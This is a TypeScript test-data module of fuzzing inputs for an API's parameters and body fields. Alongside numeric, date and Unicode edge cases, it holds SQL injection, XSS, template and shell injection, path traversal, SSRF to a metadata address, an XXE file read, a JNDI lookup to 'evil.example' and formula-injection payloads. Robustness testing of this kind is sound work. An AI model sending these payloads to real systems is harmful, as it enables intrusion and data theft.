// Values that break software, for every parameter of every operation: more than 500 of them.

const numbers = [
  '0', '-0', '-1', '1e1', '1e309', '-1e309', '1e-400', '0x10', '0b1', '0o7', '1_000', '1,5', '１２', '٣', '+1', '.5', '5.', '00', '007', '127', '128', '255', '256', '32767', '32768', '65535', '65536', '2147483647', '2147483648', '-2147483648', '-2147483649',
  '4294967295', '4294967296', '9007199254740991', '9007199254740992', '9223372036854775807', '9223372036854775808', '18446744073709551616', '99999999999999999999', '1'.repeat(400), '0.1', '0.001', '999.99', '1000', '99999999.99', '100000000', 'NaN', 'Infinity', '-Infinity', 'infinity', 'nan', '1e', 'e1', '--1', '1-1', '1+1', '½', '∞',
];
const times = [
  'now', 'today', 'epoch', 'tomorrow', 'allballs', '0000-01-01T00:00:00Z', '0001-01-01T00:00:00Z', '1582-10-10T00:00:00Z', '1899-12-31T23:59:59Z', '1900-01-01T00:00:00Z', '2199-12-31T23:59:59Z', '2200-01-01T00:00:00Z', '9999-12-31T23:59:59Z', '9999-12-31T23:59:59+23:59', '10000-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '-271821-04-20T00:00:00Z',
  '294276-12-31T23:59:59Z', '4713-01-01 BC', '2026-02-29T00:00:00Z', '2026-02-30', '2026-02-30T00:00:00Z', '2026-13-01', '2026-00-10', '2026-01-32', '2026-01-01', '2026-01-01T00:00:00', '2026-01-01T24:00:00Z', '2026-01-01T25:00:00Z', '2026-01-01T00:60:00Z', '2026-12-31T23:59:60Z', '2026-01-01T00:00:00.123456789Z', '2026-01-01T00:00:00+24:00', '2026-01-01T00:00:00-00:00', '2026-01-01t00:00:00z', '2026-W01', '2026-001', '01/02/2026', '1767225600', '1767225600000', '2026-03-29T02:30:00Z', '2026-01-01T00:00:00Z\u0000', '2026-01-01T00:00:00[Europe/Berlin]',
];
const sql = [
  "'", "''", '"', '\\', "\\'", "';", "'--", "' or '1'='1", "' or 1=1--", "'; drop table work_orders; --", "'; select pg_sleep(10); --", "' union select null,null--", "1; update users set role='admin'", "1 or 1=1", "1) or (1=1", "admin'--", "admin'/*", "*/ or 1=1 /*", "' || pg_sleep(5) || '", "${sql}", '$1', '$$', '$$;select 1;$$', ':name', '%s', '%', '_', '%%', '\\%', '[a-z]%', 'a%b_c', "E'\\x27'", "U&'\\0027'", 'null', 'NULL', 'default', 'true', 'false', 'current_user', 'information_schema.tables', 'pg_catalog', '::regclass', "'::jsonb", '{}', '[]', '{"a":1}', '{1,2}', '{NULL}', '(1,2)', '[1,2)',
  '&', '|', '!', '&|!():*<->', ':*', 'a:*', '!!', '<->', "a & (b", 'a <2> b', "'a' & 'b'", '\\:', '()', '(((((((((', ')))))', '*', '?', '+', '~', '^', 'a{1,100000}', '(a+)+$', '(.*)*', '[[:alpha:]]', '\\1',
];
const programs = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '<svg/onload=alert(1)>', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("return process")()}}', '`id`', '$(id)', '; cat /etc/passwd', '| ls', '&& whoami', '%0a id', '../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '%2e%2e%2f', '%252e%252e%252f', '/etc/passwd', 'file:///etc/passwd', 'C:\\boot.ini', '//evil.example/x', 'http://127.0.0.1:22', 'http://169.254.169.254/', 'gopher://127.0.0.1', 'data:text/html,x', 'con', 'nul', 'aux.txt',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__proto__[admin]', 'then', 'length', '{"__proto__":{"admin":true}}', 'undefined', 'null\u0000', 'function(){}', '!!js/function x', '!!python/object:x', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '%n%n%n', '%s%s%s%s', '%x', '${jndi:ldap://evil.example/a}', '=cmd|/c calc!A0', '@SUM(1)', '+1+1', '-1+1', "=HYPERLINK(\"http://evil\")", '*)(uid=*', '|(cn=*)', "' or name()='a",
];
const headers = ['a\r\nSet-Cookie: x=1', 'a\nb', 'a\rb', 'a\tb', '\r\n\r\n<html>', 'a\u0085b', 'a\u2028b', 'a\u2029b', 'a\u000bb', 'a\u000cb', 'Bearer x', 'chunked', ': value', 'a: b', 'x'.repeat(9000)];
const texts = [
  '', ' ', '   ', '\t', '\n', '\u00a0', '\u200b', '\u3000', '\ufeff', '\ufeffx', 'x\ufeff', '\u0000', 'a\u0000b', '%00', '\\u0000', '\u0001', '\u0007', '\u0008', '\u001b[31mred', '\u007f', '\u0080', '\u009b', '\ud800', '\udfff', '\ud800x', 'x\udc00', '\udc00\ud800', '\ud83d', '😀', '😀'.repeat(100), '👩‍👩‍👧‍👦', '🏳️‍🌈', '\u{10ffff}', '\ufffe', '\uffff', '\ufffd', '\u202e', '\u202egnp.exe', '\u200f', '\u2066x\u2069', 'ﷺ', 'e\u0301', '\u0301', 'Z\u0336\u0361\u0489'.repeat(50), 'ı', 'İ', 'ß', 'ẞ', 'ﬀ', 'Å', 'Å', 'ſ', 'K', '測試', 'тест', 'اختبار', 'בדיקה', 'ทดสอบ', 'வணக்கம்', '日本語', '한국어', 'ﾃｽﾄ', '𝕳𝖊𝖑𝖑𝖔', '𒀱', '\u1680', '\u180e',
  'x'.repeat(50), 'x'.repeat(51), 'x'.repeat(63), 'x'.repeat(64), 'x'.repeat(100), 'x'.repeat(101), 'x'.repeat(150), 'x'.repeat(200), 'x'.repeat(255), 'x'.repeat(256), 'x'.repeat(1000), 'x'.repeat(2000), 'x'.repeat(8000), 'x'.repeat(8001), 'é'.repeat(255), '漢'.repeat(255), ' '.repeat(5000), '\n'.repeat(1000), 'a '.repeat(4000), 'x'.repeat(70_000), '\\'.repeat(5000), '"'.repeat(5000), '('.repeat(2000), '['.repeat(2000), '{'.repeat(2000), '-'.repeat(3000), 'a-'.repeat(2000), 'a.'.repeat(2000), 'a,'.repeat(2000), '/'.repeat(1000), ','.repeat(500), ',', ',,', 'a,', ',a', 'a,a', 'open,open', 'open,closed', 'open ', ' open', 'OPEN', 'Open', 'open\u0000', 'open\n', 'critical;high', 'work_orders', '-created_at', 'created_at desc', '--created_at', '-', 'id', '-id;', 'random()', 'asc',
  'admin', 'root', 'system', 'operator', 'anonymous', 'guest', 'me', 'self', '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', 'sk_', 'pk_', 'rk_', 'op_', `sk_${'A'.repeat(43)}`, `pk_${'A'.repeat(43)}`, 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', 'Bearer', 'Basic YTpi', 'https://intranet.example', 'https://intranet.example/', 'https://', 'http://a b', 'https://user:pass@host', 'https://[::1]', 'https://xn--nxasmq6b', '//host', 'ftp://host', 'about:blank', 'https://host:99999', 'user@example.com', '"very odd"@example.com', '@', 'a@b@c', '+49 170 1234567', '<>', '\\\\server\\share', 'application/json', 'text/event-stream', 'en-US', 'C', 'UTC', 'Europe/Berlin', '#', '#fff', 'P1D', 'R/P1D', '* * * * *', '192.168.0.1', '::1', '0.0.0.0', '127.1', '2130706433', 'a=b&c=d', 'a[]=1', '%', '%zz', '%ff', '%c0%80', '%ed%a0%80', '+', '%20', ';', '?x=1', '#x', '~', '.', '..', '...', './', '/.', 'favicon.ico', 'robots.txt', 'index.php', '.env', '.git/config', 'wp-admin',
];

/** Each control character in the middle of a word. */
const controls = [...Array(32).keys(), ...Array.from({ length: 33 }, (_, i) => 127 + i)].map((code) => `a${String.fromCharCode(code)}b`);

/** Distinct texts, for parameters in addresses and for fields of text. */
export const hostile_texts: readonly string[] = [...new Set([...numbers, ...times, ...sql, ...programs, ...headers, ...texts, ...controls])];

const others: readonly unknown[] = [
  null, true, false, 0, -0, -1, 1, 1.5, -1.5, 0.001, 0.1 + 0.2, 1e-10, 1e21, 1e308, -1e308, 5e-324, 2147483647, 2147483648, -2147483649, 9007199254740991, 9007199254740994, 999.99, 1000, 100_000_000, 9_999_999_999.99,
  [], [[]], [null], [undefined], ['x'], [1, 2, 3], ['open'], ['open', 'open'], ['a', 1, null], [[['x']]], [{}], Array(1000).fill('x'), Array.from({ length: 1001 }, () => ({})), Array(10_000).fill(0),
  {}, { a: 1 }, { length: 1 }, { toString: 'x' }, { valueOf: 1 }, { $ne: null }, { $gt: '' }, { $where: '1' }, { a: { b: { c: {} } } }, { '': '' }, { 'a.b': 1 }, { '\u0000': 1 }, { constructor: { prototype: {} } }, { toJSON: 'x' }, { id: 1 }, { tenant_id: 1 },
  Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, i])), JSON.parse(`${'{"a":'.repeat(500)}1${'}'.repeat(500)}`), JSON.parse('['.repeat(500) + ']'.repeat(500)), JSON.parse('{"__proto__":{"admin":true}}'), JSON.parse('{"then":"x"}'),
];

/** Values of any type, for fields of bodies. */
export const hostile_values: readonly unknown[] = [...others, ...hostile_texts];
